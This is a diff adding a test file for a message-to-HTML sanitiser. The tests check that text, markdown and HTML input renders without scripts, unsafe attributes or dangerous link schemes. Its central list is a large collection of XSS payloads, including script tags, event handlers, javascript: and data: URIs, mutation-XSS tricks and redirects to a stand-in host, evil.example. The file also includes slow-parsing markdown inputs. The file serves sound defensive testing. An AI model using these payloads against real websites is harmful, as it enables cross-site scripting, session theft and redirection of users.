@@ -1,0 +1,215 @@
+"""Messages as HTML that is safe to show, whatever they were written in."""
+
+import time
+from html.parser import HTMLParser
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from shared.domain.values import Format, Message
+from shared.web.html import LONGEST_MARKDOWN, to_html
+
+ALLOWED = {
+    "a", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6",
+    "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
+    "thead", "tr", "u", "ul",
+}  # fmt: skip
+ATTRIBUTES = {"href", "title", "rel", "colspan", "rowspan"}
+
+
+def shown(format: Format, source: str) -> str:
+    return to_html(Message(format=format, source=source))
+
+
+class Page(HTMLParser):
+    """What a browser would find."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.links: list[str] = []
+        self.text = ""
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        for name, value in attrs:
+            self.attributes.add(name)
+            if name == "href":
+                self.links.append(value or "")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.tags.add("!--")
+
+    def handle_decl(self, decl: str) -> None:
+        self.tags.add("!")
+
+    def handle_pi(self, data: str) -> None:
+        self.tags.add("?")
+
+
+def is_harmless(page: str) -> bool:
+    found = Page(page)
+    schemes = {urlsplit(link).scheme for link in found.links}
+    return found.tags <= ALLOWED and found.attributes <= ATTRIBUTES and schemes <= {"", "http", "https", "mailto"}
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script\x0c>alert(1)</script>",
+    "<<script>alert(1)//<</script>",
+    "<script><!--<script></script>--></script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror=alert(1)>",
+    "<p onclick=alert(1)>x</p>",
+    "<p ONCLICK='alert(1)' oNmouseOver=alert(1)>x</p>",
+    "<b/onmouseover=alert(1)>x</b>",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<style>body{display:none}</style>x",
+    "<style>@import '//evil.example';</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=p><button formaction=//evil.example>x</button></form>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
+    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href=' \x01javascript:alert(1)'>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='java&#x09;script&colon;alert(1)'>x</a>",
+    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
+    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
+    "<a href='blob:x'>x</a><a href='feed:javascript:alert(1)'>x</a>",
+    "<a href=x id=app name=cookie class=admin target=_top ping=//evil.example>x</a>",
+    "<div id=forms><p slot=x is=y contenteditable data-x=1 aria-label=z>x</p></div>",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
+    "<table background=javascript:alert(1)><td style=x width='1' colspan='2' onload=a>x</table>",
+    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<p title='\"><script>alert(1)</script>'>x",
+    "<a title='\"onmouseover=alert(1) x=\"' href=http://a>x</a>",
+    "<plaintext><script>alert(1)</script>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1) 'title')",
+    "[x](java&Tab;script:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1)) ![x](https://evil.example/pixel.png 'onerror=alert(1)')",
+    '![x"onerror="alert(1)](x)',
+    '[x](http://a"onmouseover="alert(1))',
+    "[<img src=x onerror=alert(1)>](http://a)",
+    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+]
+
+
+@pytest.mark.parametrize("format", ["text", "markdown", "html"])
+@pytest.mark.parametrize("source", HOSTILE)
+def test_nothing_that_runs_loads_or_leads_astray_survives(source: str, format: Format) -> None:
+    page = shown(format, source)
+    assert is_harmless(page), page
+
+
+@pytest.mark.parametrize("source", HOSTILE)
+def test_what_is_clean_stays_as_it_is(source: str) -> None:
+    for page in (shown("html", source), shown("markdown", source)):
+        assert shown("html", page) == page
+
+
+def test_several_together_are_harmless_too() -> None:
+    for one in HOSTILE:
+        for other in HOSTILE:
+            assert is_harmless(shown("html", one + other)), one + other
+
+
+PIECES = st.sampled_from(
+    ["<", ">", "</", "/>", "<!--", "-->", "<script>", "</script>", "<style>", "</style>", "<svg>", "<math>",
+     "<a href='", "javascript:", "'", '"', "=", " ", "&#", ";", "<p>", "</p>", "<table>", "<td>", "<noscript>",
+     "<title>", "</title>", "<img src=x onerror=y>", "<b ", "onclick=x", "\n", "[", "](", ")", "`", "\x00"]
+)  # fmt: skip
+
+
+@settings(max_examples=250, deadline=None, derandomize=True)
+@given(st.lists(PIECES, max_size=25).map("".join), st.sampled_from(["text", "markdown", "html"]))
+def test_no_soup_does_harm_and_cleaning_it_again_changes_nothing(source: str, format: Any) -> None:
+    page = shown(format, source)
+    assert is_harmless(page), page
+    if format == "html":
+        assert shown("html", page) == page
+
+
+@settings(max_examples=150, deadline=None, derandomize=True)
+@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"])))
+def test_text_is_shown_letter_by_letter(source: str) -> None:
+    page = shown("text", source)
+    assert Page(page).text == (source if source.strip() else "")
+    assert Page(page).tags <= {"p", "br"}
+
+
+def test_text_keeps_its_lines_and_paragraphs() -> None:
+    assert shown("text", "a\nb\n\nc") == "<p>a<br>b</p><p>c</p>"
+    assert shown("text", "<b>&amp;\"'") == "<p>&lt;b&gt;&amp;amp;&quot;&#x27;</p>"
+
+
+def test_good_html_stays() -> None:
+    for good in (
+        "<p>a <b>b</b> <code>c</code></p><ul><li>d</li></ul>",
+        '<table><tbody><tr><td colspan="2">e</td></tr></tbody></table>',
+    ):
+        assert shown("html", good) == good
+
+
+@pytest.mark.parametrize("link", ["http://a.example/x?y=1", "https://a.example", "mailto:a@example.com"])
+def test_links_go_out_without_a_word_about_us(link: str) -> None:
+    for page in (shown("html", f"<a href='{link}' target=_blank>x</a>"), shown("markdown", f"[x]({link})")):
+        assert f'href="{link}"' in page and 'rel="noopener noreferrer nofollow"' in page and "target" not in page
+
+
+def test_markdown_is_markdown_without_html() -> None:
+    assert (
+        shown("markdown", "# a\n\n*b* ~~c~~\n\n- d")
+        == "<h1>a</h1>\n<p><em>b</em> <s>c</s></p>\n<ul>\n<li>d</li>\n</ul>\n"
+    )
+    assert "&lt;b&gt;" in shown("markdown", "<b>x</b>")
+    assert "<table>" in shown("markdown", "|a|b|\n|-|-|\n|1|2|")
+
+
+def test_a_long_markdown_message_is_shown_as_it_was_written() -> None:
+    assert shown("markdown", "*a* " * (LONGEST_MARKDOWN // 4)).startswith("<p><em>a</em>")
+    assert shown("markdown", "*a* " * (LONGEST_MARKDOWN // 4) + "*").startswith("<p>*a*")
+
+
+@pytest.mark.parametrize(
+    "piece", ["[", "![", "[x][y", "[a](", "*a_", "> ", "- ", "`a", "<a ", "&", "a\n", "|a", "\\", "[]()"]
+)
+def test_hostile_markdown_of_any_length_is_shown_soon(piece: str) -> None:
+    began = time.perf_counter()
+    for length in (LONGEST_MARKDOWN, 512 * 1024):
+        shown("markdown", (piece * length)[:length])
+    assert time.perf_counter() - began < 8  # brackets alone took a minute
